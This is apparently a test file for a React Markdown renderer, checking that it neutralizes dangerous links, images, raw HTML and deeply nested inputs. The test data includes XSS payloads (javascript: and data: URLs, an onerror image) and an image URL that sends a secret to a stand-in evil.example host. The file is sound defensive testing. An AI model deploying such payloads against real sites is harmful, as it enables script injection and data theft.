import { cleanup, fireEvent, render, screen } from '@testing-library/react'
import { renderToString } from 'react-dom/server'
import { afterEach, expect, test, vi } from 'vitest'
import { Markdown } from './Markdown.tsx'
import { MarkdownBoundary } from './MarkdownBoundary.tsx'

afterEach(cleanup)

function shown(text: string): HTMLElement {
  cleanup()
  return render(<Markdown text={text} />).container
}

test.each([
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:x)',
  '[a](//evil.example/)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![a](javascript:alert(1))',
])('%s leads nowhere, and its text stays (T-47)', (text) => {
  const page = shown(text)
  for (const element of page.querySelectorAll('[href], [src]')) {
    const url = element.getAttribute('href') ?? element.getAttribute('src') ?? ''
    expect(url).toMatch(/^(https?:|mailto:|#)/)
  }
  expect(page.textContent).toContain('a')
})

test('a remote image is a button that names its host; nothing is fetched until it is pressed (T-48)', () => {
  const page = shown(
    '![secret](https://evil.example/?d=SECRET) ![r][i]\n\n[i]: https://evil.example/i.png',
  )
  expect(page.querySelector('img, picture, source, link')).toBeNull()
  const [button] = screen.getAllByRole('button', { name: /Load image from evil\.example/ })
  fireEvent.click(button as HTMLElement)
  expect(page.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/?d=SECRET')
  expect(page.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer')
})

test('on a server nothing is preloaded either (T-50)', () => {
  const html = renderToString(<Markdown text="![x](https://evil.example/x.png)" />)
  expect(html).not.toContain('<img')
  expect(html).not.toContain('preload')
})

test('no prefix of an image or a link fetches or leads anywhere (T-49)', () => {
  const text = 'See ![x](https://evil.example/a.png?q=1) and [y](https://example.org/path)'
  for (let end = 1; end <= text.length; end++) {
    const page = shown(text.slice(0, end))
    expect(page.querySelector('img')).toBeNull()
  }
})

test('raw HTML is text (T-51, T-57)', () => {
  const page = shown(
    '<script>alert(1)</script>\n\n<form><input name=x></form> <img src=x onerror=alert(1)> <b>bold</b>',
  )
  expect(page.querySelector('script, form, input, img, b, iframe, style')).toBeNull()
})

test('ids are prefixed by message, so that none can stand for another (T-52)', () => {
  const page = shown('A[^constructor]\n\n[^constructor]: note')
  const ids = [...page.querySelectorAll('[id]')].map(({ id }) => id)
  expect(ids.length).toBeGreaterThan(0)
  for (const id of ids) expect(id).not.toMatch(/^(user-content-|fn|constructor)/)
})

test.each([
  ['quotes', '> '.repeat(5000)],
  ['lists', '- '.repeat(3000)],
  ['numbered lists', '1. '.repeat(3000)],
  ['brackets', '['.repeat(20_000)],
  ['images', '![a]('.repeat(10_000)],
])('%s nested without end are shown plain, quickly (T-53)', (_, bomb) => {
  const started = performance.now()
  const page = shown(`${bomb}x`)
  expect(performance.now() - started).toBeLessThan(5000)
  expect(page.textContent).toContain('x')
})

test('a message over a megabyte is shown plain (T-53)', () => {
  const page = shown('word '.repeat(250_000))
  expect(page.querySelector('[data-plain]')).not.toBeNull()
})

test('a message that cannot be drawn is shown plain and takes nothing with it (T-53)', () => {
  const errors = vi.spyOn(console, 'error').mockImplementation(() => undefined)
  function Broken(): never {
    throw new RangeError('Maximum call stack size exceeded')
  }
  render(
    <>
      <MarkdownBoundary text="the text" notice="plain">
        <Broken />
      </MarkdownBoundary>
      <p>the rest</p>
    </>,
  )
  expect(document.body.textContent).toContain('the text')
  expect(document.body.textContent).toContain('the rest')
  errors.mockRestore()
})

test('links open apart and give nothing away (T-58)', () => {
  const page = shown('[x](https://example.org/)')
  const link = page.querySelector('a')
  expect(link?.target).toBe('_blank')
  expect(link?.rel).toContain('noopener')
  expect(link?.rel).toContain('noreferrer')
})

test('a streamed text ends as the page it would have been at once', () => {
  const text = [
    '# Title\n\nSome *text* with `code`.\n\n',
    '| a | b |\n| - | - |\n| 1 | 2 |\n\n- [ ] one\n- [x] two\n\n',
    '```ts\nconst x = 1\n```\n\n> quote\n',
  ].join('')
  const { container, rerender } = render(<Markdown text="" />)
  for (let end = 1; end <= text.length; end++) rerender(<Markdown text={text.slice(0, end)} />)
  const streamed = container.innerHTML
  cleanup()
  expect(streamed).toBe(render(<Markdown text={text} />).container.innerHTML)
})
